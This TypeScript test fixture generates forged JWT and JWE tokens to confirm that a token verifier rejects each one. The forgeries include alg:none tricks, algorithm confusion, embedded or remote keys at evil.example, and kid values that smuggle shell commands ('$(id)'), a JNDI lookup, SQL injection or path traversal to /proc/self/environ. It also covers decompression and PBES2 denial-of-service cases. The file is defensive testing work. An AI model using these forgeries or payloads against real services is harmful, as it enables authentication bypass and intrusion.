import { createCipheriv, createHmac, generateKeyPairSync, randomBytes, sign, type KeyObject } from "node:crypto";
import { crc32, deflateRawSync } from "node:zlib";
import type { TokenClaims } from "@holdfast/crypto";

// What attackers of JWT libraries try, made of a token of ours: each a text that must open nothing. Whoever forges here has more than an
// attacker has, the very key that the organisation's tokens are sealed with, so that nothing but what a case is about refuses it.
//
// CVEs are named for what they taught, not because the libraries in question were ever used here.

/** A token that is good, and what only a thief of keys knows of it. */
export type Good = {
  readonly text: string;
  readonly kid: string;
  readonly key: Uint8Array;
  readonly claims: TokenClaims;
};

export type Forgery = {
  readonly name: string;
  readonly source: string;
  readonly text: string;
  /** It opens under the organisation's key and says which credential it wants to be, which is told to the organisation. */
  readonly isTold?: true;
};

type Json = Readonly<Record<string, unknown>>;

const coded = (value: Uint8Array | string): string => Buffer.from(value).toString("base64url");
const headerOf = ({ kid }: Pick<Good, "kid">) => ({ alg: "dir", enc: "A256GCM", kid, typ: "holdfast+jwt" });

const digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
function checksum(text: string): string {
  const places = Array.from({ length: 6 }, (_, at) => digits[Math.floor(crc32(text) / 62 ** (5 - at)) % 62]);
  return places.join("");
}

/** With the prefix and the right checksum, so that neither is why it is refused. */
const told = (body: string): string => `hf_${body}.${checksum(`hf_${body}`)}`;

type Sealing = {
  readonly header: unknown;
  readonly plain: unknown;
  readonly key: Uint8Array;
  readonly iv?: Uint8Array;
  readonly encryptedKey?: string;
};

/** A JWE whose header and content are whatever they are: with AES-GCM over all of it, as `dir` has it (RFC 7516, 5.1). */
function sealed({ header, plain, key, iv = randomBytes(12), encryptedKey = "" }: Sealing): string {
  const head = coded(typeof header === "string" ? header : JSON.stringify(header));
  const cipher = createCipheriv("aes-256-gcm", key, iv).setAAD(Buffer.from(head));
  const content = plain instanceof Uint8Array || typeof plain === "string" ? plain : JSON.stringify(plain);
  const ciphertext = Buffer.concat([cipher.update(content), cipher.final()]);
  return [head, encryptedKey, coded(iv), coded(ciphertext), coded(cipher.getAuthTag())].join(".");
}

/** By the forger's own tools, and yet as good as the platform's: or these would prove nothing. */
export const resealed = ({ kid, key, claims }: Good): string =>
  told(sealed({ header: headerOf({ kid }), plain: claims, key }));

/** A JWS (RFC 7515, 7.1). */
function signed(header: Json, claims: unknown, signature: (text: string) => Uint8Array | string): string {
  const text = `${coded(JSON.stringify(header))}.${coded(JSON.stringify(claims))}`;
  return `${text}.${coded(signature(text))}`;
}

const hmac = (hash: string, key: string | Uint8Array) => (text: string) => createHmac(hash, key).update(text).digest();

type Group = readonly [source: string, of: Readonly<Record<string, string>>, isTold?: "told"];

const rsa = generateKeyPairSync("rsa", { modulusLength: 2048 });
const ec = generateKeyPairSync("ec", { namedCurve: "P-256" });
const jwkOf = (key: KeyObject) => key.export({ format: "jwk" });
const pemOf = (key: KeyObject) => key.export({ type: "spki", format: "pem" }).toString();

/** The same thing in many spellings, one case each. */
const each = <T>(name: string, values: readonly T[], make: (value: T) => string): Record<string, string> =>
  Object.fromEntries(values.map((value) => [`${name} ${short(value)}`, make(value)]));

const short = (value: unknown): string => {
  const text = JSON.stringify(value);
  return text.length > 60 ? `${text.slice(0, 40)}… (${text.length} characters)` : text;
};

function unsigned({ claims, kid }: Good): Group {
  const spellings = ["none", "None", "NONE", "nOnE", " none", "none ", "none\0", "", null, 0, [], ["none"], {}];
  return [
    "RFC 8725, 2.1 (CVE-2015-9235, CVE-2020-28042)",
    {
      ...each("a JWS of algorithm", spellings, (alg) =>
        told(signed({ alg, typ: "holdfast+jwt", kid }, claims, () => "")),
      ),
      ...each("five parts, unsealed, of algorithm", spellings, (alg) =>
        told(`${coded(JSON.stringify({ ...headerOf({ kid }), alg }))}...${coded(JSON.stringify(claims))}.`),
      ),
      "a JWS without its signature": told(signed({ alg: "HS256", kid }, claims, () => "")),
      "a JWS without its signature and its dot": told(signed({ alg: "HS256", kid }, claims, () => "").slice(0, -1)),
      "a JWS without an algorithm": told(signed({ typ: "holdfast+jwt", kid }, claims, () => "")),
      "the claims alone": told(coded(JSON.stringify(claims))),
      "RFC 7515, A.5": told(
        "eyJhbGciOiJub25lIn0.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.",
      ),
    },
  ];
}

function signedInstead({ claims, kid, key }: Good, caPem: string): Group {
  const of = (alg: string, signature: (text: string) => Uint8Array | string, more: Json = {}) =>
    told(signed({ alg, typ: "holdfast+jwt", kid, ...more }, claims, signature));
  const byRsa = (text: string) => sign("sha256", Buffer.from(text), rsa.privateKey);
  const byEc = (text: string) => sign("sha256", Buffer.from(text), { key: ec.privateKey, dsaEncoding: "ieee-p1363" });
  return [
    "RFC 8725, 3.1 (CVE-2015-9235, CVE-2016-10555, CVE-2022-29217, CVE-2022-21449, CVE-2023-51774)",
    {
      "HS256 with the key that tokens are sealed with": of("HS256", hmac("sha256", key)),
      "HS384 with the key that tokens are sealed with": of("HS384", hmac("sha384", key)),
      "HS512 with the key that tokens are sealed with": of("HS512", hmac("sha512", key)),
      "HS256 with the platform's public certificate": of("HS256", hmac("sha256", caPem)),
      "HS256 with an empty key": of("HS256", hmac("sha256", "")),
      "HS256 with a key of zeros": of("HS256", hmac("sha256", new Uint8Array(32))),
      "HS256 with the key's own name": of("HS256", hmac("sha256", kid)),
      "HS256 with an RSA key's public text": of("HS256", hmac("sha256", pemOf(rsa.publicKey))),
      "RS256 with the attacker's key": of("RS256", byRsa),
      "ES256 with the attacker's key": of("ES256", byEc),
      "ES256 with a signature of zeros": of("ES256", () => new Uint8Array(64)),
      "ES256 in ASN.1 with zeros": of("ES256", () => Buffer.from("3006020100020100", "hex")),
      "a JWS in a JWE": told(
        sealed({
          header: { ...headerOf({ kid }), cty: "JWT" },
          plain: signed({ alg: "none" }, claims, () => ""),
          key,
        }),
      ),
      "a JWS as the content of a JWE": told(
        sealed({ header: headerOf({ kid }), plain: signed({ alg: "HS256" }, claims, hmac("sha256", key)), key }),
      ),
    },
  ];
}

function embedded({ claims, kid, key }: Good): Group {
  const own = randomBytes(32);
  const evil = "https://evil.example/keys.json";
  const members: Json = {
    jwk: { kty: "oct", k: coded(own) },
    jku: evil,
    x5u: evil,
    x5c: [coded("certificate")],
    x5t: coded(randomBytes(20)),
    "x5t#S256": coded(randomBytes(32)),
    k: coded(own),
    key: coded(own),
    url: evil,
  };
  const both = Object.entries(members).flatMap(([name, value]) => [
    [
      `${name}, sealed with the key that it names`,
      told(sealed({ header: { ...headerOf({ kid }), [name]: value }, plain: claims, key: own })),
    ],
    [
      `${name}, sealed with the right key`,
      told(sealed({ header: { ...headerOf({ kid }), [name]: value }, plain: claims, key })),
    ],
  ]);
  return [
    "RFC 8725, 2.9; RFC 7515, 4.1.2 to 4.1.8 (CVE-2018-0114)",
    {
      ...Object.fromEntries(both),
      "a JWS with its own key": told(
        signed({ alg: "ES256", jwk: jwkOf(ec.publicKey), kid }, claims, (text) =>
          sign("sha256", Buffer.from(text), { key: ec.privateKey, dsaEncoding: "ieee-p1363" }),
        ),
      ),
    },
  ];
}

function misnamed({ claims, key, kid }: Good, other: Good): Group {
  const names = [
    "",
    "../../../../../../dev/null",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "file:///dev/null",
    "https://evil.example/key",
    "' or '1'='1",
    "x' union select 'AAAAAAAAAAAAAAAAAAAAAA' --",
    "\0",
    `${kid}\0`,
    `${kid}%00`,
    "| id",
    "$(id)",
    "${jndi:ldap://evil.example}",
    "__proto__",
    "constructor",
    "__proto__AAAAAAAAAAAAA",
    kid.toLowerCase() === kid ? kid.toUpperCase() : kid.toLowerCase(),
    ` ${kid}`,
    `${kid}=`,
    `${kid}A`,
    kid.slice(1),
    "A".repeat(5_000),
    null,
    0,
    true,
    [kid],
    { kid },
  ];
  const with_ = (name: unknown, by = key) =>
    told(sealed({ header: { ...headerOf({ kid }), kid: name }, plain: claims, key: by }));
  const { kid: _, ...nameless } = headerOf({ kid });
  return [
    "RFC 8725, 2.9 and 3.10: the name of the key",
    {
      ...each("kid", names, (name) => with_(name)),
      "the content of /dev/null for a key": with_("../../../../../../dev/null", new Uint8Array(32)),
      "no kid": told(sealed({ header: nameless, plain: claims, key })),
      "a kid that nobody has": with_(coded(randomBytes(16))),
      "a kid with bits after its end": with_(kid.slice(0, -1) + (kid.endsWith("A") ? "B" : "A")),
      "another organisation's kid, our key": with_(other.kid),
      "another organisation's key, our kid": with_(kid, other.key),
      "another organisation's kid and key": with_(other.kid, other.key),
    },
  ];
}

function reheaded({ claims, kid, key, text }: Good): Group {
  const head = headerOf({ kid });
  const { typ: _, ...untyped } = head;
  const [, ...rest] = text.slice(3).split(".");
  const json = JSON.stringify(head);
  const same = (header: unknown) => told(sealed({ header, plain: claims, key }));
  const spelt: Readonly<Record<string, string>> = {
    "with a space": json.replace(":", ": "),
    "with a line end": `${json}\n`,
    "with a mark of byte order": `\uFEFF${json}`,
    "with an escape": json.replace("dir", "\\u0064ir"),
    "in another order": JSON.stringify({ typ: head.typ, kid, enc: head.enc, alg: head.alg }),
    "with alg twice, none first": json.replace("{", '{"alg":"none",'),
    "with alg twice, none last": json.replace("}", ',"alg":"none"}'),
    "with kid twice": json.replace("{", '{"kid":"AAAAAAAAAAAAAAAAAAAAAA",'),
    "with __proto__": json.replace("}", ',"__proto__":{"alg":"none"}}'),
    "with a comment": json.replace("{", "{/**/"),
    "that is no object": "null",
    "that is an array": `[${json}]`,
    "that is no JSON": json.slice(0, -1),
    "that is empty": "",
  };
  return [
    "RFC 8725, 2.6 and 3.11; RFC 7516, 4.1 and 5.2: the header",
    {
      ...Object.fromEntries(
        Object.entries(spelt).flatMap(([name, header]) => [
          [`a header ${name}, sealed again`, same(header)],
          [`a header ${name}, the seal as it was`, told([coded(header), ...rest.slice(0, -1)].join("."))],
        ]),
      ),
      ...each(
        "enc",
        [
          "A128GCM",
          "A192GCM",
          "A128CBC-HS256",
          "A256CBC-HS512",
          "a256gcm",
          "A256GCM ",
          "XC20P",
          "none",
          "",
          null,
          ["A256GCM"],
        ],
        (enc) => same({ ...head, enc }),
      ),
      ...each(
        "alg",
        [
          "A128KW",
          "A256KW",
          "A256GCMKW",
          "RSA1_5",
          "RSA-OAEP",
          "RSA-OAEP-256",
          "ECDH-ES",
          "ECDH-ES+A256KW",
          "PBES2-HS256+A128KW",
          "DIR",
          "dir ",
          "none",
        ],
        (alg) => same({ ...head, alg }),
      ),
      ...each("typ", ["JWT", "at+jwt", "dpop+jwt", "HOLDFAST+JWT", "application/holdfast+jwt", "", null], (typ) =>
        same({ ...head, typ }),
      ),
      "no typ": same(untyped),
      ...each("crit", [["exp"], ["b64"], ["alg"], ["unknown"], [], "exp", null], (crit) =>
        same({ ...head, crit, unknown: 1 }),
      ),
      "b64 false (RFC 7797)": same({ ...head, b64: false, crit: ["b64"] }),
      "cty JWT": same({ ...head, cty: "JWT" }),
      "claims in the header (RFC 7519, 5.3)": same({ ...head, jti: claims.jti, org: claims.org }),
      "a member that nobody knows": same({ ...head, "": "" }),
    },
  ];
}

function costly({ claims, kid, key }: Good): Group {
  const head = headerOf({ kid });
  const by = (more: Json, plain: unknown = claims, encryptedKey = "") =>
    told(sealed({ header: { ...head, ...more }, plain, key, encryptedKey }));
  const bomb = deflateRawSync(Buffer.alloc(5_000_000, " "));
  const wrapped = coded(randomBytes(40));
  return [
    "RFC 8725, 3.6 (CVE-2024-28176, CVE-2024-33664, CVE-2022-36083, CVE-2023-52428, CVE-2017-16007): what would cost us",
    {
      zip: by({ zip: "DEF" }, deflateRawSync(JSON.stringify(claims))),
      "zip, and five megabytes of spaces in it": by({ zip: "DEF" }, bomb),
      "zip of another kind": by({ zip: "GZIP" }),
      "PBES2 with two thousand million rounds": by(
        { alg: "PBES2-HS512+A256KW", p2c: 2 ** 31 - 1, p2s: coded(randomBytes(16)) },
        claims,
        wrapped,
      ),
      "PBES2 with as many as a number holds": by(
        { alg: "PBES2-HS256+A128KW", p2c: Number.MAX_SAFE_INTEGER, p2s: coded("salt") },
        claims,
        wrapped,
      ),
      "a point that is on no curve": by({
        alg: "ECDH-ES",
        epk: { kty: "EC", crv: "P-256", x: coded(Buffer.alloc(32, 1)), y: coded(Buffer.alloc(32, 1)) },
      }),
      "RSA1_5 (Bleichenbacher)": by({ alg: "RSA1_5" }, claims, coded(randomBytes(256))),
      "a header as long as can be": by({ x: "A".repeat(4_000) }),
      "a header as deep as can be": told(
        sealed({ header: `${"[".repeat(2_000)}${"]".repeat(2_000)}`, plain: claims, key }),
      ),
      "four thousand dots": told(".".repeat(4_000)),
      "nothing but a prefix, again and again": told("hf_".repeat(2_000)),
      "content as deep as can be": told(
        sealed({ header: head, plain: `${"[".repeat(2_500)}${"]".repeat(2_500)}`, key }),
      ),
    },
  ];
}

function cut({ text, kid, key, claims }: Good): Group {
  const [head = "", , iv = "", ciphertext = "", tag = ""] = text.slice(3).split(".");
  const parts = (...all: readonly string[]) => told(all.join("."));
  const bits = (part: string, at: number) => {
    const bytes = Buffer.from(part, "base64url");
    const index = at < 0 ? bytes.length + at : at;
    bytes[index] = (bytes[index] ?? 0) ^ 1;
    return coded(bytes);
  };
  const first = (part: string, bytes: number) => coded(Buffer.from(part, "base64url").subarray(0, bytes));
  const more = (part: string) => coded(Buffer.concat([Buffer.from(part, "base64url"), Buffer.alloc(4)]));
  return [
    "RFC 7516, 5.2; RFC 7518, 5.3; Wycheproof, json_web_encryption: parts that are changed, cut or missing",
    {
      "the first bit of the tag": parts(head, "", iv, ciphertext, bits(tag, 0)),
      "the last bit of the tag": parts(head, "", iv, ciphertext, bits(tag, -1)),
      ...each("a tag of so many bytes:", [15, 12, 8, 4, 1, 0], (bytes) =>
        parts(head, "", iv, ciphertext, first(tag, bytes)),
      ),
      "a longer tag": parts(head, "", iv, ciphertext, more(tag)),
      "no tag and no dot": parts(head, "", iv, ciphertext),
      "the first bit of the content": parts(head, "", iv, bits(ciphertext, 0), tag),
      "the last bit of the content": parts(head, "", iv, bits(ciphertext, -1), tag),
      "content that is cut": parts(head, "", iv, first(ciphertext, 20), tag),
      "no content": parts(head, "", iv, "", tag),
      "no content and no dot": parts(head, "", iv, tag),
      "the tag in the content's place": parts(head, "", iv, tag, ciphertext),
      "the first bit of the nonce": parts(head, "", bits(iv, 0), ciphertext, tag),
      ...each("a nonce of so many bytes:", [11, 8, 1, 0], (bytes) =>
        parts(head, "", first(iv, bytes), ciphertext, tag),
      ),
      "a nonce of sixteen bytes, sealed with it": told(
        sealed({ header: headerOf({ kid }), plain: claims, key, iv: randomBytes(16) }),
      ),
      "no nonce and no dot": parts(head, "", ciphertext, tag),
      "an encrypted key": parts(head, coded(randomBytes(40)), iv, ciphertext, tag),
      "no place for an encrypted key": parts(head, iv, ciphertext, tag),
      "no header": parts("", "", iv, ciphertext, tag),
      "no header and no dot": parts("", iv, ciphertext, tag),
      "an empty part at the end": parts(head, "", iv, ciphertext, tag, ""),
      "a part too many": parts(head, "", iv, ciphertext, tag, "foo"),
      "an empty part at the start": parts("", head, "", iv, ciphertext, tag),
      "empty parts alone": parts("", "", "", "", ""),
      "two tokens in one": `${text}.${text.slice(3)}`,
      "JSON, flattened (RFC 7516, 7.2.2)": `hf_${JSON.stringify({ protected: head, iv, ciphertext, tag })}`,
      "JSON, general (RFC 7516, 7.2.1)": `hf_${JSON.stringify({ protected: head, recipients: [{}], iv, ciphertext, tag })}`,
      "half of it": text.slice(0, text.length / 2),
      nothing: "hf_",
      "RFC 7516, A.1, its header": told(
        `eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.${coded(randomBytes(256))}.${iv}.${ciphertext}.${tag}`,
      ),
    },
  ];
}

function respelt({ kid, key, claims, text }: Good): Group {
  // A nonce of ones is all underscores, and slashes in plain base64.
  const ones = sealed({ header: headerOf({ kid }), plain: claims, key, iv: Buffer.alloc(12, 255) }).split(".");
  const [head = "", , iv = "", ciphertext = "", tag = ""] = ones;
  const body = text.slice(3, -7);
  const [whole = ""] = text.split(".").slice(-1);
  const after = (part: string) => part.slice(0, -1) + String.fromCharCode(part.charCodeAt(part.length - 1) + 1);
  const cased = body.slice(0, -1) + (/[a-z]/.test(body.slice(-1)) ? body.slice(-1).toUpperCase() : "a");
  return [
    "RFC 7515, 2; RFC 4648, 3.5: one spelling",
    {
      "plain base64": told([head, "", iv.replaceAll("_", "/"), ciphertext, tag].join(".")),
      "padding on the header": told([`${head}==`, "", iv, ciphertext, tag].join(".")),
      "padding on the content": told([head, "", iv, `${ciphertext}=`, tag].join(".")),
      "padding on the tag": told([head, "", iv, ciphertext, `${tag}==`].join(".")),
      "bits after the end of the tag": told([head, "", iv, ciphertext, after(tag)].join(".")),
      "a space in it": told(`${body.slice(0, 200)} ${body.slice(200)}`),
      "a line end in it": told(`${body.slice(0, 200)}\r\n${body.slice(200)}`),
      "a NUL behind it": `${text}\0`,
      "a space behind it": `${text} `,
      "a space before it": ` ${text}`,
      "a line end behind it": `${text}\n`,
      "a mark of byte order before it": `\uFEFF${text}`,
      "a character of full width": text.replace("hf_", "ｈf_"),
      "percent-encoded dots": text.replaceAll(".", "%2E"),
      "another case at the end": told(cased),
      quotes: `"${text}"`,
      "a comma behind it": `${text},`,
      "in capitals": text.toUpperCase(),
      "its prefix in capitals": text.replace("hf_", "HF_"),
      "another prefix": text.replace("hf_", "hfs_"),
      "no prefix": text.slice(3),
      "two prefixes": `hf_${text}`,
      "no checksum": text.slice(0, -7),
      "no checksum, and its dot": text.slice(0, -6),
      "a checksum of another text": `${text.slice(0, -6)}${checksum(whole)}`,
      "its checksum in another case": `${text.slice(0, -6)}${otherCase(text.slice(-6))}`,
    },
  ];
}

/** Of the first letter; where there are digits alone, one of them is another. */
function otherCase(text: string): string {
  const other = (one: string) => (one === one.toLowerCase() ? one.toUpperCase() : one.toLowerCase());
  return /[a-z]/i.test(text) ? text.replace(/[a-z]/i, other) : `${text.slice(0, -1)}a`;
}

/** Nobody can do this without the key; with it, the row decides. */
function altered({ kid, key, claims }: Good, { claims: theirs }: Good, { claims: stronger }: Good): readonly Group[] {
  const of = (plain: unknown) => told(sealed({ header: headerOf({ kid }), plain, key }));
  const { conditions: _, ...unconditional } = claims;
  const { exp: __, ...endless } = claims;
  const { nonce: ___, ...nonceless } = claims;
  const { exp = 0, iat, seq } = claims;
  return [
    [
      "RFC 8725, 2.7 and 3.10: claims of a credential, sealed with the right key",
      {
        "all grants": of({ ...claims, grants: ["*"] }),
        "a grant more": of({ ...claims, grants: [...claims.grants, "device.update"] }),
        "no grants": of({ ...claims, grants: [] }),
        "grants in another order": of({ ...claims, grants: claims.grants.toReversed() }),
        "a grant everywhere": of({
          ...claims,
          grants: claims.grants.map((grant) => String(grant).split(":", 1)[0]),
        }),
        "no conditions": of(unconditional),
        "other conditions": of({ ...claims, conditions: { addresses: ["0.0.0.0/1"] } }),
        "conditions and __proto__": of(JSON.stringify(claims).replace("}", ',"__proto__":null}')),
        "no end": of(endless),
        "a later end": of({ ...claims, exp: exp + 1 }),
        "an earlier end": of({ ...claims, exp: exp - 1 }),
        "a later place among revocations": of({ ...claims, seq: seq + 1_000 }),
        "an earlier place among revocations": of({ ...claims, seq: Math.max(0, seq - 1) }),
        "another beginning": of({ ...claims, iat: iat - 1 }),
        "a beginning to come": of({ ...claims, iat: iat + 3_600 }),
        "another nonce": of({ ...claims, nonce: coded(randomBytes(16)) }),
        "a nonce of zeros": of({ ...claims, nonce: coded(new Uint8Array(16)) }),
        "the id of another credential": of({ ...claims, jti: stronger.jti }),
        "all of another credential but the nonce": of({ ...stronger, nonce: claims.nonce }),
        "an id that nobody has": of({ ...claims, jti: `tok_${"0".repeat(32)}` }),
        "the id of another organisation's credential": of({ ...claims, jti: theirs.jti }),
      },
      "told",
    ],
    [
      "RFC 8725, 3.7 to 3.12: content that is no claims of ours, sealed with the right key",
      {
        "another organisation": of({ ...claims, org: theirs.org }),
        "all of another organisation's": of(theirs),
        ...each(
          "a claim more:",
          ["role", "admin", "scope", "sub", "aud", "iss", "nbf", "kind", "constructor"],
          (name) => of({ ...claims, [name]: "owner" }),
        ),
        "a claim more: __proto__": of(`${JSON.stringify(claims).slice(0, -1)},"__proto__":{"grants":["*"]}}`),
        "no nonce": of(nonceless),
        "a nonce with padding": of({ ...claims, nonce: `${claims.nonce}==` }),
        "a key's id": of({ ...claims, jti: claims.jti.replace("tok_", "key_") }),
        "an id in capitals": of({ ...claims, jti: claims.jti.toUpperCase() }),
        "a list of ids": of({ ...claims, jti: [claims.jti] }),
        "grants as text": of({ ...claims, grants: "*" }),
        "an end as text": of({ ...claims, exp: String(exp) }),
        "an end that is none": of({ ...claims, exp: null }),
        "an end beyond numbers": of(JSON.stringify(claims).replace(`"exp":${exp}`, '"exp":1e400')),
        "claims in a list": of([claims]),
        "claims as text": of(JSON.stringify(JSON.stringify(claims))),
        "bytes that are no text": of(Buffer.from([0xff, 0xfe, 0xfd])),
        "UTF-16": of(Buffer.from(JSON.stringify(claims), "utf16le")),
        nothing: of(" "),
        "a token in a token": of(`"hf_${coded("x")}"`),
      },
    ],
  ];
}

/** All of them, `stronger` being a credential of the same organisation that may do more, and `other` another organisation's. */
export function forgeriesOf(good: Good, of: { other: Good; stronger: Good; caPem: string }): readonly Forgery[] {
  const groups = [
    unsigned(good),
    signedInstead(good, of.caPem),
    embedded(good),
    misnamed(good, of.other),
    reheaded(good),
    costly(good),
    cut(good),
    respelt(good),
    ...altered(good, of.other, of.stronger),
  ];
  return groups.flatMap(([source, cases, isTold]) =>
    Object.entries(cases).map(([name, text]) => ({ name, source, text, ...(isTold && { isTold: true as const }) })),
  );
}
